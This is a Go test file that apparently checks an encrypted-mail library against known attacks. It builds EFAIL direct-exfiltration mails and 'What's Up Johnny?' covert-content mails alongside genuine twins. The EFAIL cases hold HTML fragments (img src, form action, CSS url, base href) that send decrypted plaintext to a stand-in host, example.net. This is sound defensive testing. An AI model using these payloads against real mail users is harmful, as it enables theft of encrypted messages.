package mail_test

import (
	"strings"
	"testing"

	"github.com/doublekeybox/doublekeybox/envelope"
	"github.com/doublekeybox/doublekeybox/envelope/mail"
)

// attack makes one mail that somebody built to be believed, and its twin: the
// same structure, different in what the attack is, and genuine.
type attack struct {
	name   string
	only   string // "pgp" or "smime"; "" for both formats
	mail   func(c *cast, f string, attacks bool) string
	opener func(t testing.TB, c *cast, o *mail.Opener, attacks bool) // changes the reader
}

// aSecret is what Alice sealed for Bob.
func (c *cast) aSecret(f string) string {
	return sealed(f, plain(secret), []*someone{c.alice}, c.bob)
}

// around builds an attack that puts foreign content around an encrypted part;
// in the twin Alice wrote all of it, and sealed it as a whole.
func around(name string, wrap func(inner string) string) attack {
	return attack{name: name, mail: func(c *cast, f string, attacks bool) string {
		if attacks {
			return header + wrap(c.aSecret(f))
		}
		return header + sealed(f, wrap(plain(secret)), []*someone{c.alice}, c.bob)
	}}
}

// Direct exfiltration: Poddebniak and others, "EFAIL", USENIX Security 2018, Section 4.
func efailAttacks() []attack {
	before, after := page(`<img src="http://example.net/`+foreign+`?`), page(`">`+foreign)
	nested := func(inner string) string { return multipartOf("mixed", "in", inner) }
	return []attack{
		around("efail-mixed", func(s string) string { return multipartOf("mixed", "out", before, s, after) }),
		around("efail-related", func(s string) string { return multipartOf("related", "out", before, s, after) }),
		around("efail-alternative", func(s string) string { return multipartOf("alternative", "out", before, s, after) }),
		around("efail-before", func(s string) string { return multipartOf("mixed", "out", before, s) }),
		around("efail-after", func(s string) string { return multipartOf("mixed", "out", s, after) }),
		around("efail-nested", func(s string) string { return multipartOf("mixed", "out", before, nested(s), after) }),
		around("efail-forwarded", func(s string) string { return multipartOf("mixed", "out", before, embedded(header+s), after) }),
		around("efail-form", func(s string) string {
			return multipartOf("mixed", "out", page(`<form action="http://example.net"><textarea name="`+foreign+`">`), s, page(`</textarea>`))
		}),
		around("efail-style", func(s string) string {
			return multipartOf("mixed", "out", page(`<style>/*`+foreign+`*/ a { background: url(http://example.net/`), s, page(`)}</style>`))
		}),
		around("efail-base", func(s string) string {
			return multipartOf("mixed", "out", page(`<base href="http://example.net/`+foreign+`">`), s)
		}),
		around("efail-text-before", func(s string) string { return multipartOf("mixed", "out", plain(foreign), s) }),
		around("efail-appended", func(s string) string { return multipartOf("appledouble", "out", before, s, after) }),
	}
}

// Covert content: Müller and others, "Re: What's Up Johnny?", ACNS 2019, arXiv
// 1904.07550: what is decrypted hides where the reader's answer quotes it.
func covertAttacks() []attack {
	lure := plain("What's up? " + foreign + strings.Repeat("\r\n", 200))
	withFields := func(fields, entity string) string { return fields + entity }
	deep := func(s string) string {
		for _, b := range []string{"d1", "d2", "d3"} {
			s = multipartOf("mixed", b, s)
		}
		return s
	}
	return []attack{
		around("covert-tail", func(s string) string { return multipartOf("mixed", "out", lure, s) }),
		around("covert-head", func(s string) string { return multipartOf("mixed", "out", s, lure) }),
		around("covert-alternative", func(s string) string { return multipartOf("alternative", "out", lure, s) }),
		around("covert-related-cid", func(s string) string {
			return multipartOf("related", "out", page(foreign+`<iframe src="cid:x@example.net"></iframe>`), withFields("Content-ID: <x@example.net>\r\n", s))
		}),
		around("covert-object-cid", func(s string) string {
			return multipartOf("related", "out", page(foreign+`<object data="cid:x@example.net"></object>`), withFields("Content-Description: figure\r\nContent-ID: <x@example.net>\r\n", s))
		}),
		around("covert-embedded", func(s string) string { return multipartOf("mixed", "out", lure, embedded(header+s)) }),
		around("covert-deep", func(s string) string { return multipartOf("mixed", "out", lure, deep(s)) }),
		around("covert-hidden-css", func(s string) string {
			return multipartOf("mixed", "out", page(foreign+`<div style="display:none">`), s, page(`</div>`))
		}),
		around("covert-digest", func(s string) string { return multipartOf("digest", "out", header+lure, header+s) }),
		around("covert-parallel", func(s string) string { return multipartOf("parallel", "out", lure, s) }),
		around("covert-alternative-in-mixed", func(s string) string {
			return multipartOf("mixed", "out", multipartOf("alternative", "alt", lure, s))
		}),
		{name: "covert-inside-sealed", mail: func(c *cast, f string, attacks bool) string {
			// Eve seals Alice's ciphertext among her own text, in Alice's name.
			if attacks {
				return header + sealed(f, multipartOf("mixed", "out", lure, c.aSecret(f)), []*someone{c.eve}, c.bob)
			}
			return header + sealed(f, multipartOf("mixed", "out", lure, plain(secret)), []*someone{c.alice}, c.bob)
		}},
		{name: "covert-inside-unsigned", mail: func(c *cast, f string, attacks bool) string {
			if attacks {
				return header + sealed(f, multipartOf("mixed", "out", lure, c.aSecret(f)), nil, c.bob)
			}
			return header + sealed(f, multipartOf("mixed", "out", lure, plain(secret)), []*someone{c.alice}, c.bob)
		}},
		{name: "covert-attachment", mail: func(c *cast, f string, attacks bool) string {
			attachment := func(s string) string {
				return "Content-Disposition: attachment; filename=letter.eml\r\n" + embedded(header+s)
			}
			if attacks {
				return header + multipartOf("mixed", "out", lure, attachment(c.aSecret(f)))
			}
			return header + sealed(f, multipartOf("mixed", "out", lure, attachment(plain(secret))), []*someone{c.alice}, c.bob)
		}},
	}
}

// changed is an attack on the octets of a sealed message alone.
func changed(name, format string, p envelope.Profile, change func(message []byte) []byte) attack {
	return attack{name: name, only: format, mail: func(c *cast, f string, attacks bool) string {
		m := sealedBytes(f, p, plain(strings.Repeat(secret+"\r\n", 40)), []*someone{c.alice}, c.bob)
		if attacks {
			m = change(m)
		}
		return header + sealedPart(f, m)
	}}
}

// flipped changes the bit of an octet that stands n octets before the end.
func flipped(n int) func([]byte) []byte {
	return func(m []byte) []byte { m[len(m)-n] ^= 1; return m }
}
